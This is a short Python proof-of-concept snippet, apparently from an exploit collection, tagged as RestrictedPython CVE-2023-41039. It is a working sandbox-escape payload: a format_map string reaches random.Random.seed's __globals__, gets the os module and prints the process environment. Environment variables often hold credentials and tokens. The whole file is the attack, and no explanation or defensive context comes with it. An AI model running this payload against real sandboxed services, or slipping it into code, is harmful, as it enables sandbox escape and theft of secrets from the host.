# source: RestrictedPython CVE-2023-41039
# effect: environment

import random

print("{seed.__globals__[_os].environ}".format_map({"seed": random.Random.seed}))
